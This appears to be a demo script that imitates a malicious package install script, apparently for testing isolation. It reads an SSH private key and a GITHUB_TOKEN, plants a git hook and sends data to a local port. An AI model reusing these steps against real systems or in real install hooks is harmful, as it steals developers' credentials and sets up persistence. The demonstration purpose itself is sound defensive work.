"""What the install script of a bad package might try. Harmless: it takes a made-up key, leaves a note, calls a port of this demo.

attack.py HOME HOOK PORT. Prints one line per attempt; the demo looks at the effects, not at these lines.
"""

import os
import socket
import sys

home, hook, port = sys.argv[1:]


def attempt(what, act):
    try:
        print(f"    {what}: {act()}")
    except OSError as error:
        print(f"    {what}: {error.strerror or error}")


def read_key():
    with open(f"{home}/.ssh/id_ed25519", encoding="utf-8") as key:
        return f"GOT IT ({key.read().strip()})"


def plant_hook():
    with open(hook, "w", encoding="utf-8") as script:
        script.write("#!/bin/sh\n# would run at the next git command\n")
    return "PLANTED"


def send_out():
    with socket.create_connection(("127.0.0.1", int(port)), timeout=3) as line:
        line.sendall(b"stolen")
    return "SENT"


def read_token():
    return f"GOT IT ({os.environ['GITHUB_TOKEN']})" if "GITHUB_TOKEN" in os.environ else "there is no such variable"


attempt("read ~/.ssh/id_ed25519", read_key)
attempt("read $GITHUB_TOKEN", read_token)
attempt("plant a git hook", plant_hook)
attempt("send it over the network", send_out)
